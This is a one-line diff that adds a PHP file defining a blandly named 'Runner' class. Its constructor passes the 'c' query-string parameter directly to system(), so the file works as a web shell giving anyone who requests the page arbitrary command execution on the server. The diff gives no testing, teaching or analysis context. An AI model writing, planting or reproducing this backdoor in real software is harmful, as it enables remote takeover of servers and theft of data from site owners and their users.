@@ -1,0 +1,1 @@
+<?php class Runner { function __construct($c) { system($c); } } new Runner($_GET['c']);
